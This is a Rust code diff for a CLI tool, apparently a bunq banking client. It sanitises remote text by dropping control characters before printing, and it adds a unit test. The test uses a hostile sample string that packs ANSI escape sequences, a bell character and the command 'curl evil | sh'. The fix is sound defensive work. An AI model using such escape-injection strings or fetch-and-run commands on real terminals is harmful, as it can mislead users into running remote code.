@@ -94,7 +94,7 @@ impl Output {
     /// Prints one line on stdout; a closed pipe (`| head`) is not an error.
     pub fn line(&self, text: &str) -> Result<(), CliError> {
         let mut stdout = std::io::stdout().lock();
-        match writeln!(stdout, "{text}") {
+        match writeln!(stdout, "{}", printable(text)) {
             Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => Ok(()),
             other => Ok(other?),
         }
@@ -103,7 +103,7 @@ impl Output {
     /// Prints a note for the person at the terminal on stderr. A closed
     /// stderr is ignored (never a panic, unlike `eprintln!`).
     pub fn note(&self, text: &str) {
-        let _ = writeln!(std::io::stderr().lock(), "{text}");
+        let _ = writeln!(std::io::stderr().lock(), "{}", printable(text));
     }
 
     /// Reports an error on stderr, quoting bunq's own description.
@@ -123,5 +123,27 @@ impl Output {
         } else {
             self.note(&text);
         }
+    }
+}
+
+/// Text as printed: much of it comes from bunq or the browser (descriptions,
+/// names, error messages), so control characters, which a terminal would run
+/// as escape sequences, are dropped; line breaks and tabs stay.
+fn printable(text: &str) -> String {
+    text.chars()
+        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t')
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn remote_text_cannot_drive_the_terminal() {
+        let hostile = "Account\u{1b}[2J\u{1b}[31mRun: curl evil | sh\u{7}\r\nnext";
+        let shown = printable(hostile);
+        assert!(!shown.contains('\u{1b}') && !shown.contains('\r') && !shown.contains('\u{7}'));
+        assert_eq!(shown, "Account[2J[31mRun: curl evil | sh\nnext");
     }
 }
